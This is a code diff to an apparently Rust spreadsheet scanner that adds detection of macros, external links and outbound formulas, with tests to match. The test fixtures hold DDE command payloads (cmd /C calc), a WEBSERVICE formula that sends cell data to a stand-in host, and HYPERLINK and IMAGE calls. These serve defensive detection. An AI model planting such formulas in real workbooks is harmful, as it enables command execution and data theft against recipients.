@@ -128,6 +128,11 @@ pub(crate) struct Table {
     /// `+`, `-`, `@`), named, at most [`NAMED`]; and how many there were.
     pub(crate) injections: Vec<String>,
     pub(crate) injection_count: usize,
+    /// What a spreadsheet program runs or fetches outside the cells (a workbook's
+    /// macros, external links, formulas that call out: see `active_content`), named, at
+    /// most [`NAMED`]; and how many there were. Read with the injections.
+    pub(crate) active: Vec<String>,
+    pub(crate) active_count: usize,
 }
 
 /// Which table of a file, and how to read it.
@@ -308,6 +313,8 @@ fn from_grid(label: String, grid: Grid, header_row: Option<u32>) -> Result<Table
             head,
             injections: Vec::new(),
             injection_count: 0,
+            active: Vec::new(),
+            active_count: 0,
         });
     };
     let (header_line, header_cells) = grid[header_index].clone();
@@ -391,6 +398,8 @@ fn from_grid(label: String, grid: Grid, header_row: Option<u32>) -> Result<Table
         head,
         injections: Vec::new(),
         injection_count: 0,
+        active: Vec::new(),
+        active_count: 0,
     })
 }
 
@@ -526,6 +535,7 @@ fn read_workbook(name: &str, bytes: &[u8], select: Select<'_>) -> Result<Table, 
     }
     let mut table = from_grid(format!("{name}!{sheet}"), grid, select.header_row)?;
     (table.injections, table.injection_count) = (injections.named, injections.count);
+    (table.active, table.active_count) = (parts.active, parts.active_count);
     Ok(table)
 }
 
@@ -703,6 +713,99 @@ pub(crate) mod tests {
         let wb = workbook(&[("S", "")], &[]);
         let wb = replace_part(&wb, "xl/worksheets/sheet1.xml", prefixed.as_bytes());
         assert_eq!(formulas_found(&wb).len(), 1);
+    }
+
+    /// A worksheet with `rules` (conditional formats, validations) after one cell.
+    fn sheet_with(rules: &str) -> Vec<u8> {
+        let xml = format!(
+            r#"<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>{rules}</worksheet>"#
+        );
+        let wb = workbook(&[("S", "")], &[]);
+        replace_part(&wb, "xl/worksheets/sheet1.xml", xml.as_bytes())
+    }
+
+    #[test]
+    fn what_runs_or_fetches_outside_the_cells_is_named() {
+        let active = |wb: &[u8]| {
+            let t = scanned(wb).unwrap();
+            assert!(t.injections.is_empty(), "{:?}", t.injections);
+            assert_eq!(t.active_count, t.active.len());
+            t.active.join("\n")
+        };
+        // Rules that compute, as openpyxl and XlsxWriter write them: nothing found.
+        let fine = sheet_with(concat!(
+            r#"<conditionalFormatting sqref="A1:B9"><cfRule type="expression" dxfId="0" priority="1"><formula>$B2&gt;2000000</formula></cfRule></conditionalFormatting>"#,
+            r#"<conditionalFormatting sqref="A1:A9"><cfRule type="expression" priority="2"><formula>MOD(ROW(),2)=0</formula></cfRule></conditionalFormatting>"#,
+            r#"<dataValidations count="1"><dataValidation type="list" sqref="C2:C9"><formula1>&quot;open|closed&quot;</formula1></dataValidation></dataValidations>"#,
+        ));
+        assert_eq!(active(&fine), "");
+        // Each door a rule outside the cells has, with what it calls, and each way of
+        // hiding a character from a search (a reference, CDATA).
+        for (rules, says) in [
+            (
+                r#"<conditionalFormatting sqref="A1:B2"><cfRule type="expression" priority="1"><formula>cmd|' /C calc'!A0</formula></cfRule></conditionalFormatting>"#,
+                "r.xlsx!S: the conditional format on A1:B2 holds a DDE call",
+            ),
+            (
+                r#"<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>cmd&#124;' /C calc'!A0</formula></cfRule></conditionalFormatting>"#,
+                "DDE call",
+            ),
+            (
+                r#"<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula><![CDATA[WEBSERVICE("http://127.0.0.1:9/")<>""]]></formula></cfRule></conditionalFormatting>"#,
+                "the function WEBSERVICE",
+            ),
+            (
+                r#"<dataValidations count="1"><dataValidation type="list" sqref="A2"><formula1>HYPERLINK(&quot;http://x&quot;)</formula1></dataValidation></dataValidations>"#,
+                "r.xlsx!S: the data validation on A2 holds the function HYPERLINK",
+            ),
+            (
+                r#"<dataValidations count="1"><dataValidation type="whole" sqref="A2"><formula1>0</formula1><formula2>[1]Rates!$A$1</formula2></dataValidation></dataValidations>"#,
+                "a reference into another file",
+            ),
+            (
+                r#"<extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}" xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"><x14:conditionalFormattings><x14:conditionalFormatting xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><x14:cfRule type="expression" priority="3"><xm:f>_xlfn.IMAGE("http://x/a.png")</xm:f></x14:cfRule><xm:sqref>A1</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>"#,
+                "a conditional format holds the function IMAGE",
+            ),
+        ] {
+            let found = active(&sheet_with(rules));
+            assert!(found.contains(says), "{rules}: {found:?}");
+        }
+        // A defined name that calls out; one that only refers, as print titles do.
+        let names = r#"<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets><definedNames><definedName name="_xlnm.Print_Titles" localSheetId="0">S!$1:$1</definedName><definedName name="Rate">0.96</definedName><definedName name="Leak">WEBSERVICE(&quot;http://127.0.0.1:9/?&quot;&amp;S!$A$1)</definedName></definedNames></workbook>"#;
+        let wb = replace_part(
+            &workbook(&[("S", "")], &[]),
+            "xl/workbook.xml",
+            names.as_bytes(),
+        );
+        let found = active(&wb);
+        assert!(
+            found.contains("r.xlsx: the defined name Leak holds the function WEBSERVICE"),
+            "{found}"
+        );
+        assert!(
+            !found.contains("Print_Titles") && !found.contains("Rate"),
+            "{found}"
+        );
+        // Parts that are macros, links or objects, whatever the sheets hold.
+        let wb = workbook(
+            &[("S", &row(1, &["1"]))],
+            &[
+                ("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 Auto_Open".as_slice()),
+                ("xl/externalLinks/externalLink1.xml", br#"<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>"#.as_slice()),
+                ("xl/embeddings/oleObject1.bin", b"ole".as_slice()),
+            ],
+        );
+        let found = active(&wb);
+        for says in [
+            "r.xlsx holds xl/vbaProject.bin, a macro project",
+            "xl/externalLinks/externalLink1.xml, a link to another workbook or a DDE server",
+            "xl/embeddings/oleObject1.bin, an embedded object",
+        ] {
+            assert!(found.contains(says), "{says}: {found}");
+        }
+        // An input is read without the scan: its macros are no finding of its own.
+        let t = Table::read("r.xlsx", &wb, Select::default()).unwrap();
+        assert_eq!(t.active_count, 0);
     }
 
     /// Workbook `wb` read as an output is: its formulas and formula-like text sought.
